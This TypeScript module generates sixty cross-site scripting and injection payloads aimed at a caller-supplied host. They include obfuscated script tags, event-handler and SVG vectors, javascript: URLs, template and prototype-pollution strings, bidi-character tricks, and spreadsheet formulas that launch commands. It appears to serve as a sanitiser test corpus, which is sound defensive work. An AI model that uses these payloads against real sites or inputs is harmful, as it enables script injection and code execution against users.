const BIDI = { override: "\u202e", isolate: "\u2066", pop: "\u202c", mark: "\u200f" } as const;
const NUL = "\u0000";

/** Scripts as tags, whole, broken and in disguise. */
function tags(at: string): readonly string[] {
  return [
    `<script>fetch("${at}/1")</script>`,
    `<script src="${at}/2"></script>`,
    `<SCRIPT SRC=${at}/3></SCRIPT>`,
    `<scr<script>ipt>fetch("${at}/4")</scr</script>ipt>`,
    `"><script>fetch("${at}/5")</script>`,
    `'><script>fetch('${at}/6')</script>`,
    `</textarea><script>fetch("${at}/7")</script>`,
    `</title><script>fetch("${at}/8")</script>`,
    `<!--><script>fetch("${at}/9")</script>-->`,
    `<![CDATA[<script>fetch("${at}/10")</script>]]>`,
    `<script/x>fetch("${at}/11")</script>`,
    `\\u003cscript\\u003efetch("${at}/12")\\u003c/script\\u003e`,
    `＜script＞fetch("${at}/13")＜/script＞`,
    `&lt;script&gt;fetch("${at}/14")&lt;/script&gt;`,
    `%3Cscript%3Efetch("${at}/15")%3C/script%3E`,
  ];
}

/** Elements that run something when they are shown, or fail to be. */
function handlers(at: string): readonly string[] {
  return [
    `<img src=x onerror=fetch("${at}/16")>`,
    `<img src="${at}/17.png">`,
    `<img/src='x'/onerror='alert(18)'>`,
    `<body onload=alert(19)>`,
    `<input autofocus onfocus=fetch("${at}/20")>`,
    `<details open ontoggle=fetch("${at}/21")>x</details>`,
    `<video><source onerror=fetch("${at}/22")></video>`,
    `<audio src=x onerror=alert(23)>`,
    `<marquee onstart=fetch("${at}/24")>x</marquee>`,
    `<iframe src="${at}/25"></iframe>`,
    `<iframe srcdoc="<script>parent.fetch('${at}/26')</script>"></iframe>`,
    `<object data="${at}/27"></object>`,
    `<embed src="${at}/28">`,
    `<link rel=stylesheet href="${at}/29.css">`,
    `<style>@import "${at}/30.css";</style>`,
    `<div style="background:url(${at}/31.png)">x</div>`,
    `<meta http-equiv=refresh content="0;url=${at}/32">`,
    `<base href="${at}/33/">`,
    `<form action="${at}/34"><button autofocus>x</button></form>`,
    `" onmouseover="fetch('${at}/35')" x="`,
  ];
}

/** Pictures that are programs. */
function drawings(at: string): readonly string[] {
  return [
    `<svg onload=fetch("${at}/36")>`,
    `<svg><script>fetch("${at}/37")</script></svg>`,
    `<svg><script href="${at}/38"/></svg>`,
    `<svg><image href="${at}/39.png"/></svg>`,
    `<svg><animate onbegin=fetch("${at}/40") attributeName=x dur=1s></svg>`,
    `<svg><foreignObject><img src=x onerror=alert(41)></foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=fetch("${at}/42")>`,
  ];
}

/** Addresses and the tongues of templates, markdown, formulas and terminals. */
function tongues(at: string): readonly string[] {
  return [
    `javascript:fetch("${at}/43")`,
    `<a href="javascript:fetch('${at}/44')">x</a>`,
    `data:text/html,<script>fetch("${at}/45")</script>`,
    `[点这里](javascript:fetch("${at}/46"))`,
    `![x](${at}/47.png)`,
    `<${at}/48|退款>`,
    `{{constructor.constructor("fetch('${at}/49')")()}}`,
    `\${fetch("${at}/50")}`,
    `#{fetch("${at}/51")} <%= fetch("${at}/51") %>`,
    `__proto__.x = constructor.prototype`,
    `=HYPERLINK("${at}/53","退款")`,
    `+cmd|' /C calc'!A0`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `-2+3+IMPORTXML("${at}/56","//a")`,
  ];
}

/** Signs that turn, hide or cut the text after them. */
function signs(at: string): readonly string[] {
  return [
    `${BIDI.override}<script>fetch("${at}/57")</script>${BIDI.pop}`,
    `${BIDI.isolate}店长${BIDI.mark}<img src=x onerror=alert(58)>`,
    `<scr${NUL}ipt>fetch("${at}/59")</scr${NUL}ipt>`,
    `\u200b\u200d<img\u00a0src=x onerror=fetch("${at}/60")>`,
  ];
}

/** Sixty texts that would run or load something where text is taken for markup; `at` is asked then. */
export function payloads(at: string): readonly string[] {
  return [tags, handlers, drawings, tongues, signs].flatMap((make) => make(at));
}
